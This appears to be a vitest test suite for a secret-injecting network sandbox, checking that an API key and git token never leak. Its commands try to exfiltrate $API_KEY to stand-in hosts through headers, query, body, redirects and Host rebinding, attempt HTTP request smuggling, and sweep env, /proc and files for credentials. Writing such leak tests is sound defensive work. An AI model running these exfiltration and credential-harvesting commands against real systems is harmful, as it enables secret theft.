import { spawnSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readSync, statSync } from 'node:fs';
import { basename, join } from 'node:path';
import { setImmediate } from 'node:timers/promises';
import { expect, it } from 'vitest';
import { until } from '../until.ts';
import { invalidHosts } from './authority.ts';
import type { Arrival } from './records.ts';
import { describeRestricted, inside } from './restricted.ts';
import { tokens } from './tokens.ts';

const { API_KEY, GIT_TOKEN } = tokens;
const secrets = {
  secrets: {
    API_KEY: { hosts: ['api.test', ...Object.values(invalidHosts)] },
    GIT_TOKEN: { hosts: ['git.test', 'only.test'], exclusive: true },
  },
  file: { GIT_TOKEN },
  environment: { API_KEY },
};

type Request = Extract<Arrival, { kind: 'request' }>;
const requestsIn = (arrivals: readonly Arrival[]): Request[] => arrivals.filter((arrival) => arrival.kind === 'request');

/** Every spelling in which a value could be found again. */
function spellingsOf(value: string): string[] {
  const bytes = Buffer.from(value);
  // What base64 has of it at each alignment, without the ends that depend on other bytes.
  const encoded = [0, 1, 2].map((before) =>
    Buffer.concat([Buffer.alloc(before), bytes])
      .toString('base64')
      .slice(before === 0 ? 0 : 4, -4),
  );
  const hex = bytes.toString('hex');
  const texts = [value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value), hex, hex.toUpperCase(), ...encoded];
  return [...texts, ...encoded.map((text) => text.replaceAll('+', '-').replaceAll('/', '_'))];
}

const spellings = [API_KEY, GIT_TOKEN].flatMap(spellingsOf);

function expectNoValue(text: string, title?: string): void {
  expect(
    spellings.filter((spelling) => text.includes(spelling)),
    title,
  ).toEqual([]);
}

const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
/** Writes the output of a command with other letters, so that no redaction of the program hides a value from the test. */
const turned = (command: string): string => `{ ${command}; } 2>&1 | tr '${letters}' '${letters.slice(1)}a'`;
const turnedBack = (text: string): string =>
  text.replaceAll(/[a-zA-Z0-9]/g, (letter) => letters.at((letters.indexOf(letter) + letters.length - 1) % letters.length) ?? '');

const curl = 'curl -sS --max-time 60';
const key = '-H "x-api-key: $API_KEY"';

const allow = ['other.test', '*.api.test', 'api.test', 'api.test:8443'];

await describeRestricted(
  { allow, presets: [], direct_ports: [22, 443, 8443] },
  ({ kind, world, restricted }) => {
    /** What it prints, read from under other letters, and what then arrived in the world. */
    async function attempt(command: string): Promise<{ output: string; arrivals: Arrival[] }> {
      await world().arrivals();
      const { stdout, stderr } = await restricted().run(turned(command), 'attacker');
      expectNoValue(stderr);
      return { output: turnedBack(stdout), arrivals: await world().arrivals() };
    }

    it.each([
      ['to another host', `${curl} ${key} https://other.test/`, 'other.test'],
      ['to a host below', `${curl} ${key} https://www.api.test/`, 'www.api.test'],
      ['to another port', `${curl} ${key} https://api.test:8443/`, 'api.test:8443'],
      ['without TLS', `${curl} ${key} http://api.test/`, 'api.test'],
      ['in the body', `${curl} -d "$API_KEY" https://api.test/echo`, 'api.test'],
      ['as the user agent', `${curl} -A "$API_KEY" https://api.test/`, 'api.test'],
      ['in the query', `${curl} "https://api.test/?key=$API_KEY"`, 'api.test'],
      ['in the path', `${curl} "https://api.test/$API_KEY"`, 'api.test'],
      ['in a header of its own', `${curl} -H "x-mine: $API_KEY" https://api.test/`, 'api.test'],
    ])('a request %s gets no value', async (_, command, host) => {
      const { output, arrivals } = await attempt(command);
      expect(requestsIn(arrivals).map((request) => request.host)).toEqual([host]);
      expectNoValue(JSON.stringify(arrivals) + output);
    });

    it('a redirect takes no value to another host, to another port, to a secret of another host or out of TLS', async () => {
      const targets = ['https://other.test/', 'https://api.test:8443/', 'https://git.test/', 'http://api.test/'];
      const follow = `${curl} -L --location-trusted --proto-redir =http,https -o /dev/null -w '%{http_code} ' ${key}`;
      const { output, arrivals } = await attempt(targets.map((target) => `${follow} "https://api.test/redirect?to=${target}"`).join('; '));
      expect(output).toBe('200 200 403 200 ');
      const [redirects, others] = [true, false].map((is) => requestsIn(arrivals).filter(({ url }) => url.startsWith('/redirect') === is));
      expect(redirects?.map(({ headers }) => headers['x-api-key'])).toEqual(targets.map(() => API_KEY));
      expect(others?.map(({ host, port }) => `${host} ${port}`)).toEqual(['other.test 443', 'api.test:8443 8443', 'api.test 80']);
      expectNoValue(JSON.stringify(others));
      const within = await attempt(`${curl} -L ${key} "https://api.test/redirect?to=/"`);
      expect(requestsIn(within.arrivals).map(({ url, headers }) => [url, headers['x-api-key']])).toEqual([
        ['/redirect?to=/', API_KEY],
        ['/', API_KEY],
      ]);
    });

    it('a request over the connection to one host never reaches another', async () => {
      const send = (line: string, host: string): string => `${line} HTTP/1.1\\r\\nHost: ${host}\\r\\nx-api-key: %s\\r\\n\\r\\n`;
      const script = (target: string, host: string): string =>
        [
          'import os, socket, ssl',
          `s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")`,
          `key = os.environ["API_KEY"]`,
          `s.sendall(("${send('GET /', 'api.test')}" % key).encode())`,
          's.recv(4096)',
          `s.sendall(("${send(`GET ${target}`, host)}" % key).encode())`,
          'print(s.recv(4096).decode())',
        ].join('\n');
      const { arrivals } = await attempt(
        [
          `python3 -c '${script('/second', 'other.test')}'`,
          `python3 -c '${script('https://other.test/third', 'api.test')}'`,
          `${curl} ${key} -H 'Host: other.test' https://api.test/fourth`,
          `${curl} ${key} --request-target https://git.test/fifth https://api.test/`,
          `${curl} ${key} --resolve other.test:443:$(getent hosts api.test | cut -d' ' -f1) --noproxy '*' https://other.test/sixth`,
          `${curl} ${key} --connect-to other.test:443:api.test:443 https://other.test/seventh`,
        ].join('; '),
      );
      expect(new Set(requestsIn(arrivals).map(({ host }) => host))).toEqual(new Set(['api.test']));
      expect(new Set(arrivals.map((arrival) => arrival.kind === 'tls-name' && arrival.name))).toEqual(new Set([false, 'api.test']));
    });

    it('a host with a secret is spoken to in nothing but TLS', async () => {
      const plain = 'GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n';
      await world().arrivals();
      const results = await restricted().attack({
        direct: { try: 'tcp', host: 'api.test', port: 443, send: plain },
        absolute: { try: 'raw', send: `GET http://api.test:443/ ${plain.slice('GET / '.length)}` },
        otherName: { try: 'tls', target: 'api.test:443', name: 'other.test' },
        noName: { try: 'tls', target: 'api.test:443', name: null, direct: true },
      });
      expect(results.direct.text ?? '').not.toContain('hello');
      expect(requestsIn(await world().arrivals())).toEqual([]);
      expect(results.absolute.status).not.toBe(200);
    });

    it('a host without a valid certificate gets nothing', async () => {
      const hosts = Object.values(invalidHosts);
      const { output, arrivals } = await attempt(
        hosts.map((host) => `${curl} -k -o /dev/null -w '%{http_code} ' ${key} https://${host}/`).join('; '),
      );
      expect(output).toBe('502 502 502 ');
      expect(arrivals.filter((arrival) => arrival.kind === 'connection').length).toBeGreaterThanOrEqual(hosts.length);
      expect(requestsIn(arrivals)).toEqual([]);
    });

    it('a placeholder of another host is refused, and so is another credential where the secret is exclusive', async () => {
      const status = `${curl} -o /dev/null -w '%{http_code} '`;
      const { output, arrivals } = await attempt(
        [
          `${status} -H "Authorization: Bearer $GIT_TOKEN" https://api.test/`,
          `${status} -u "x:$GIT_TOKEN" https://api.test/`,
          `${status} -H "x-mine: $API_KEY" https://only.test/`,
          `${status} -H "Authorization: Bearer mine" https://only.test/`,
          `${status} -u "mine:mine" https://only.test/`,
          `${status} -b "session=mine" https://only.test/`,
          `${status} "https://only.test/?access_token=mine"`,
          `${status} -H "Authorization: Bearer $GIT_TOKEN" -H "x-api-key: mine" https://only.test/`,
          `${status} -H "Authorization: Bearer $GIT_TOKEN" -H "Authorization: Bearer mine" https://only.test/`,
          `${status} -H "Authorization: Bearer $GIT_TOKEN" https://only.test/`,
        ].join('; '),
      );
      expect(output).toBe(`${'403 '.repeat(9)}200 `);
      expect(requestsIn(arrivals).map(({ headers }) => headers.authorization)).toEqual([`Bearer ${GIT_TOKEN}`]);
    });

    it('a host that says its secret says it in no form that reaches the sandbox', async () => {
      const bodies = [
        'plain',
        'json',
        'slashes',
        'punctuation',
        'html',
        'lines',
        'url',
        'hex',
        'upper-hex',
        'base64',
        'base64url',
        'gzip',
        'deflate',
        'br',
        'zstd',
        'bytes',
      ];
      const heads = ['header', 'reason', 'trailer'];
      const compressed = `--compressed -H 'Accept-Encoding: gzip, br, zstd'`;
      const { output, arrivals } = await attempt(
        [
          ...[...bodies, ...heads].map((way) => `${curl} -i ${key} https://api.test/tell/${way}; echo`),
          `${curl} ${compressed} ${key} https://api.test/tell/gzip; echo`,
          `${curl} -i ${key} https://api.test/echo; echo`,
          `${curl} -o /dev/null -w '%{http_code}\\n' ${key} https://api.test/tell/unknown`,
        ].join('; '),
      );
      expect(requestsIn(arrivals).every(({ headers }) => headers['x-api-key'] === API_KEY)).toBe(true);
      expect(output.match(/told/g)?.length).toBeGreaterThanOrEqual(bodies.length + heads.length + 1);
      expect(output).toMatch(/^502$/m);
      expectNoValue(output);
      // It is the placeholder that comes back.
      expect(output.match(/told [a-z]*hmtc/g)?.length).toBeGreaterThanOrEqual(6);
    });

    it('a host that gives parts of an answer gives no part of its secret', async () => {
      const { output } = await attempt(
        `for at in 0 7 14 21 28 35 42; do ${curl} ${key} -r $at-$((at + 6)) https://api.test/tell/range; done`,
      );
      expect(output.match(/told \w*hmtc/g)).toHaveLength(7);
      expectNoValue(output);
    });

    it('the sizes of chunks do not tell how a secret begins, and what was tried is in the log', async () => {
      const { stdout } = await restricted().run(`python3 ${inside}/guesser.py api.test API_KEY`, 'guesser');
      const { guessed, pieces } = JSON.parse(stdout) as { guessed: string; pieces: number };
      expect(pieces).toBeGreaterThan(40);
      expect(guessed).toBe('');
      await attempt(`${curl} ${key} https://api.test/; ${curl} ${key} http://api.test/`);
      const log = JSON.parse((await restricted().hermetic.run(['network', 'log', '--json'])).stdout) as Record<string, unknown>[];
      const about = log
        .filter(({ host }) => host === 'api.test')
        .map(({ outcome, port, secrets, placeholders }) => [outcome, port, secrets, placeholders]);
      expect(about).toContainEqual(['allowed', 443, [], []]);
      expect(about).toContainEqual(['allowed', 443, ['API_KEY'], []]);
      expect(about).toContainEqual(['allowed', 80, [], ['API_KEY']]);
    });

    it('a host that says its secret in a websocket says it in no frame that reaches the sandbox', async () => {
      const socket =
        "const socket = new WebSocket('wss://api.test/socket', { headers: { authorization: 'Bearer ' + process.env.API_KEY } }); " +
        'socket.onmessage = ({ data }) => { console.log(data); socket.close(); }; socket.onerror = () => process.exit(1);';
      const { output, arrivals } = await attempt(`/opt/node24 -e "${socket}"`);
      expect(requestsIn(arrivals).map(({ headers }) => headers.authorization)).toEqual([`Bearer ${API_KEY}`]);
      expect(output).toMatch(/told Bearer [a-z]*hmtc/);
      expectNoValue(output);
    });

    it('a host that says its secret letter by letter gives it away, as the documentation says', async () => {
      const { output } = await attempt(`${curl} ${key} https://api.test/tell/letters`);
      expect(output).toContain([...API_KEY].join(' '));
      expect(readFileSync(join(import.meta.dirname, '../../docs/network.md'), 'utf8')).toContain('letter by letter');
    });

    it('a request over TLS that two readers may understand in two ways is refused, and what follows it gets no value', async () => {
      const begin = 'POST /first HTTP/1.1\r\nHost: api.test\r\n';
      const follow = 'GET /second HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\n\r\n';
      const requests = [
        `${begin}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        `${begin}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello`,
        `${begin}X: a\r\n b\r\n\r\n`,
        `${begin}X: a\nY: b\r\n\r\n`,
        `${begin}Host: other.test\r\n\r\n`,
      ];
      const script = [
        'import os, socket, ssl',
        `for request in ${JSON.stringify(requests)}:`,
        '  s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")',
        `  s.sendall((request + ${JSON.stringify(follow)} % os.environ["API_KEY"]).encode())`,
        '  print(s.recv(4096).decode().split(" ")[1])',
      ].join('\n');
      const { output, arrivals } = await attempt(`python3 -c '${script}'`);
      expect(output.trim().split('\n')).toEqual(requests.map(() => '400'));
      expect(requestsIn(arrivals)).toEqual([]);
    });

    it('no value is in the environment, the processes or the files of a sandbox', async () => {
      const places = '/opt/hermetic /etc /run /tmp /var/tmp /dev/shm /workspace /root /home "$HOME" "$PWD"';
      const { output } = await attempt(
        'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/mountinfo | tr "\\0" "\\n"; ' +
          `find ${places} -type f -size -2000k -exec cat {} + 2>/dev/null | tr -d "\\0"`,
      );
      expect(output).toMatch(/^API_KEY=.*hmtc/m);
      expect(output).toMatch(/^GIT_TOKEN=ghp_.*hmtc/m);
      expect(output).toContain('BEGIN CERTIFICATE');
      expect(output).not.toContain('PRIVATE KEY');
      expect(output).not.toContain('HERMETIC_HOME=');
      expectNoValue(output);
    });

    it('no value is in a process, in a container or in the home of the program, except .env', async () => {
      const running = restricted().start(`${curl} ${key} https://api.test/; echo ready; cat`, 'attacker');
      await running.printed('ready');
      for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
        expectNoValue(readProcess(pid, 'cmdline'), pid);
        // The environment of the program itself has the one that it was given, and so has that of a program of another test file, which runs
        // meanwhile. No process inside or beside has it.
        const variables = readProcess(pid, 'environ');
        if (!variables.includes('HERMETIC_HOME=')) expectNoValue(variables, pid);
        expect(variables.includes(GIT_TOKEN), pid).toBe(false);
      }
      if (kind === 'docker') {
        const containers = spawnSync('docker', ['ps', '-q'], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
        // Those of other tests may end meanwhile.
        const inspected = spawnSync('docker', ['inspect', ...containers], { encoding: 'utf8' }).stdout;
        expect(inspected).toContain('hmtc');
        expectNoValue(inspected);
      }
      await running.end();
      const log = await restricted().hermetic.run(['audit', 'export']);
      expect(log.stdout, log.stderr).toContain('api.test');
      expectNoValue(log.stdout);
      const files = filesIn(restricted().hermetic.environment.HERMETIC_HOME ?? '');
      expect(files.map((file) => basename(file))).toContain('authority.pem');
      for (const file of files) if (basename(file) !== '.env') expectNoValue(readFileSync(file, 'latin1'), file);
    });

    it('the helper that opens the sockets of a sandbox has no value, neither in its environment nor in its memory', async () => {
      const home = restricted().hermetic.environment.HERMETIC_HOME ?? '';
      const seen = await until('a helper is seen', async () => {
        const running = restricted().run('true', 'watched');
        let isRunning = true;
        void running.finally(() => (isRunning = false));
        let helper: Seen | undefined;
        while (isRunning && !helper) {
          helper = helperOf(home);
          await setImmediate();
        }
        await running;
        await restricted().hermetic.run(['sandbox', 'destroy', 'watched']);
        return helper;
      });
      const names = [...seen.environment.matchAll(/([^=\0]+)=[^\0]*\0/g)].map(([, name = '']) => name);
      expect(names.filter((name) => !/^(?:PATH|PWD|SHLVL|_|NODE_CHANNEL_\w+)$/.test(name))).toEqual([]);
      expectNoValue(seen.environment);
      expectNoValue(seen.memory);
    });
  },
  secrets,
);

interface Seen {
  environment: string;
  memory: string;
}

/** Stops the helper of the program with this home for a moment and reads it; undefined when there is none, or it has just ended. */
function helperOf(home: string): Seen | undefined {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    if (!readProcess(pid, 'cmdline').includes('opener.mjs\0') || !belongsTo(pid, home)) continue;
    try {
      process.kill(Number(pid), 'SIGSTOP');
      const seen = { environment: readProcess(pid, 'environ'), memory: memoryOf(pid) };
      process.kill(Number(pid), 'SIGCONT');
      // Before that, Node is still being loaded.
      if (seen.memory.length > 10_000_000) return seen;
    } catch {
      // It has ended.
    }
  }
  return undefined;
}

function belongsTo(pid: string, home: string): boolean {
  if (readProcess(pid, 'environ').includes(`HERMETIC_HOME=${home}\0`)) return true;
  const [, parent = '0'] = /^PPid:\s+(\d+)$/m.exec(readProcess(pid, 'status')) ?? [];
  return Number(parent) > 1 && belongsTo(parent, home);
}

/** What it could write to a core: all that it may write to. */
function memoryOf(pid: string): string {
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  try {
    return [...readProcess(pid, 'maps').matchAll(/^([\da-f]+)-([\da-f]+) rw/gm)]
      .map(([, from = '', to = '']) => {
        const bytes = Buffer.alloc(Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 64 * 1024 * 1024));
        try {
          return bytes.toString('latin1', 0, readSync(memory, bytes, 0, bytes.length, BigInt(`0x${from}`)));
        } catch {
          return ''; // of the kernel
        }
      })
      .join('');
  } finally {
    closeSync(memory);
  }
}

/** Empty for a process that has ended. */
function readProcess(pid: string, file: string): string {
  try {
    return readFileSync(`/proc/${pid}/${file}`, 'latin1');
  } catch {
    return '';
  }
}

function filesIn(directory: string): string[] {
  return readdirSync(directory, { recursive: true, encoding: 'utf8' })
    .map((name) => join(directory, name))
    .filter((file) => statSync(file, { throwIfNoEntry: false })?.isFile());
}
